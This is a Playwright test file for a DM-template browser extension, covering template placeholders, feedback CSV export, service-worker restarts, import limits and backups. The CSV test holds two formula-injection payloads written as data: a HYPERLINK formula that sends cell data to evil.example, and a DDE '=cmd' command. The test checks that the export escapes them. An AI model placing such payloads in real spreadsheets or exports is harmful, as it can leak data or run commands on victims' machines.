// Hostile input is normal: templates, names and files from strangers and other tools must never break the sidebar,
// execute, or leak as live formulas.
import type { BrowserContext } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { dbRows, expect, test, type DmPage } from './harness';

async function importTemplates(context: BrowserContext, extensionId: string, templates: object[]) {
  const page = await context.newPage();
  await page.goto(`chrome-extension://${extensionId}/options.html`);
  await expect(page.getByTestId('library-row').first()).toBeVisible();
  await page.getByTestId('import-file').setInputFiles({
    name: 'hostile.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify({ templates })),
  });
  await expect(page.getByTestId('import-status')).toContainText('Imported');
  return page;
}

test('a template using {{constructor}}, {{toString}}, {{__proto__}}, {{valueOf}} keeps the sidebar working', async ({
  context,
  extensionId,
  openDm,
}) => {
  const options = await importTemplates(context, extensionId, [
    {
      title: 'Object keys',
      body: 'Hi {{first_name}}, {{constructor}} {{toString}} {{__proto__}} {{valueOf}}.',
      shortcut: 'keys',
    },
  ]);
  // Its editor opens and previews it.
  await options.locator('[data-testid="library-row"][data-title="Object keys"]').getByTestId('edit').click();
  await expect(options.getByTestId('editor-preview')).toContainText('Hi Jane,');

  const dm = await openDm('https://www.instagram.com/direct/t/1001/');
  const errors: string[] = [];
  dm.page.on('pageerror', (e) => errors.push(e.message));
  await dm.sidebar.getByTestId('search').fill('object keys');
  await dm.template('Object keys').click();
  const fillIn = dm.sidebar.getByTestId('fill-in');
  await expect(fillIn).toContainText('Constructor');
  for (const input of await fillIn.locator('input[type="text"], input:not([type])').all()) await input.fill('x');
  await fillIn.getByTestId('fill-in-insert').click();
  await expect.poll(() => dm.editorText()).toBe('Hi Jane, x x x x.');
  // The list still renders (a second later, after the sidebar's clock ticked) and shortcuts still work.
  await dm.sidebar.getByTestId('search').fill('');
  await dm.page.waitForTimeout(1100);
  await expect(dm.sidebar.locator('[data-row]').first()).toBeVisible();
  expect(errors).toEqual([]);
});

test('the feedback CSV writes a hostile contact name and answer as text, never as live formulas', async ({
  openDm,
  context,
  worker,
}) => {
  const name = '=HYPERLINK("http://evil.example/?"&A1,"Jane")';
  const dm = await openDm('https://www.instagram.com/direct/t/1001/', {
    threads: { '1001': { name, handle: 'evil', messages: [{ dir: 'in', text: 'hi' }] } },
  });
  await dm.sidebar.getByTestId('log-feedback').click();
  await dm.sidebar.getByTestId('feedback-scale').selectOption('text');
  await dm.sidebar.getByTestId('feedback-comment').fill('=cmd|" /C calc"!A0');
  await dm.sidebar.getByTestId('feedback-save').click();
  await expect(dm.sidebar.getByTestId('status')).toHaveText('Feedback logged.');

  const dashboard = await context.newPage();
  await dashboard.goto(`chrome-extension://${new URL(worker.url()).host}/dashboard.html`);
  await expect(dashboard.getByTestId('feedback-row')).toHaveCount(1);
  const [download] = await Promise.all([dashboard.waitForEvent('download'), dashboard.getByTestId('export-feedback').click()]);
  const csv = readFileSync(await download.path(), 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Jane"")"`);
  expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
  expect(csv).not.toMatch(/(^|,)"?=/m);
});

test('a service worker stopped again and again while DM tabs load loses no message and counts none twice', async ({
  context,
  openDm,
  fixture,
  extensionId,
  worker,
}) => {
  test.setTimeout(90_000);
  const threads = Object.fromEntries(
    [0, 1, 2, 3].map((i) => [
      `200${i}`,
      {
        name: `Customer ${i}`,
        handle: `c${i}`,
        messages: [
          { dir: 'in' as const, text: `Hello from ${i}` },
          { dir: 'out' as const, text: 'Hi!' },
        ],
      },
    ]),
  );
  fixture.set({ threads });
  // The worker is stopped once it is installed and running (a user's browser never kills it mid-install: a worker
  // killed during its very first run can leave the extension with no registered worker at all).
  await expect
    .poll(() =>
      worker.evaluate(() => (self as unknown as { registration: ServiceWorkerRegistration }).registration.active?.state),
    )
    .toBe('activated');
  const control = await context.newPage();
  const cdp = await context.newCDPSession(control);
  await cdp.send('ServiceWorker.enable');
  let stopping = true;
  const stopper = (async () => {
    while (stopping) {
      await cdp.send('ServiceWorker.stopAllWorkers').catch(() => undefined);
      await control.waitForTimeout(120);
    }
  })();
  const tabs: DmPage[] = [];
  for (const id of Object.keys(threads)) tabs.push(await openDm(`https://www.instagram.com/direct/t/${id}/`));
  await tabs[0]!.page.waitForTimeout(1600);
  for (const dm of tabs) await dm.page.evaluate(() => window.__fixture.receive('Are you there?'));
  await tabs[0]!.page.waitForTimeout(1500);
  stopping = false;
  await stopper;
  // Read what was stored from an extension page (same origin as the database): no dependence on which worker is alive.
  const reader = await context.newPage();
  await reader.goto(`chrome-extension://${extensionId}/popup.html`);
  let last = '';
  await expect
    .poll(
      async () => {
        const rows = await dbRows<{ history: boolean; contactKey: string }>(reader, 'events');
        last = rows
          .map((e) => `${e.contactKey}:${e.history}`)
          .sort()
          .join(' ');
        return rows.map((e) => e.history).sort();
      },
      { timeout: 60_000, message: 'events stored' },
    )
    .toEqual([false, false, false, false, true, true, true, true, true, true, true, true])
    .catch(async (e: unknown) => {
      // What each tab's recorder and the background said, to tell a stuck queue from a stuck database.
      const tabsSaid = await Promise.all(
        tabs.map((dm) =>
          dm.sidebar
            .getByTestId('recording-behind')
            .textContent({ timeout: 1000 })
            .catch(() => 'not behind'),
        ),
      );
      const workers = context.serviceWorkers().length;
      throw new Error(`${String(e)}\nstored: ${last}\ntabs: ${tabsSaid.join(' | ')}\nservice workers alive: ${workers}`);
    });
});

test('a file over the import limit is refused in words before anything is sent', async ({ context, extensionId }) => {
  const page = await context.newPage();
  await page.goto(`chrome-extension://${extensionId}/options.html`);
  await expect(page.getByTestId('library-row').first()).toBeVisible();
  const big = Buffer.alloc(21 * 1024 * 1024, ' ');
  await page.getByTestId('import-file').setInputFiles({ name: 'huge.json', mimeType: 'application/json', buffer: big });
  await expect(page.getByTestId('import-status')).toHaveText(
    'Could not import huge.json: the file is 21.0 MB; at most 20 MB can be imported at once. Nothing was imported.',
  );
  const withField = JSON.stringify({ templates: [{ title: 'Big', body: 'Hi', notes: 'x'.repeat(3_000_000) }] });
  await page
    .getByTestId('import-file')
    .setInputFiles({ name: 'field.json', mimeType: 'application/json', buffer: Buffer.from(withField) });
  await expect(page.getByTestId('import-status')).toContainText(
    'Template 1 ("Big"): the extra field "notes" is too large to keep (at most 2,000 characters).',
  );
  await expect(page.getByTestId('import-status')).not.toContainText('Invalid');
});

test('after a big change the options page reminds to back up; the backup restores templates and settings', async ({
  context,
  extensionId,
  worker,
}) => {
  const page = await context.newPage();
  await page.goto(`chrome-extension://${extensionId}/options.html`);
  await expect(page.getByTestId('library-row').first()).toBeVisible();
  await expect(page.getByTestId('backup-reminder')).toHaveCount(0);
  const templates = Array.from({ length: 25 }, (_, i) => ({ title: `Backup ${i}`, body: `Reply ${i}` }));
  await page.getByTestId('import-file').setInputFiles({
    name: 'many.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify({ templates })),
  });
  await expect(page.getByTestId('backup-reminder')).toContainText('changed 25 times');
  await page.getByTestId('setting-my-name').fill('Ana from Velas');
  await page.getByTestId('setting-my-name').blur();
  await expect.poll(async () => JSON.stringify(await dbRows(worker, 'settings'))).toContain('Ana from Velas');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('backup-now').click()]);
  const backup = JSON.parse(readFileSync(await download.path(), 'utf8')) as {
    templates: unknown[];
    settings: { myName: string };
  };
  expect(backup.templates).toHaveLength(35);
  expect(backup.settings.myName).toBe('Ana from Velas');
  await expect(page.getByTestId('backup-reminder')).toHaveCount(0);

  // The storage is wiped (as Chromium can): importing the backup brings back the library and the settings.
  await worker.evaluate(
    () =>
      new Promise<void>((resolve, reject) => {
        const open = indexedDB.open('dm-sidekick');
        open.onsuccess = () => {
          const tx = open.result.transaction(['templates', 'settings'], 'readwrite');
          tx.objectStore('templates').clear();
          tx.objectStore('settings').clear();
          tx.oncomplete = () => resolve();
          tx.onerror = () => reject(new Error(String(tx.error)));
        };
      }),
  );
  await page.getByTestId('import-file').setInputFiles({
    name: 'backup.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(backup)),
  });
  await expect(page.getByTestId('import-status')).toContainText('Your settings were restored from the backup.');
  expect(await dbRows(worker, 'templates')).toHaveLength(35);
  expect(JSON.stringify(await dbRows(worker, 'settings'))).toContain('Ana from Velas');
});
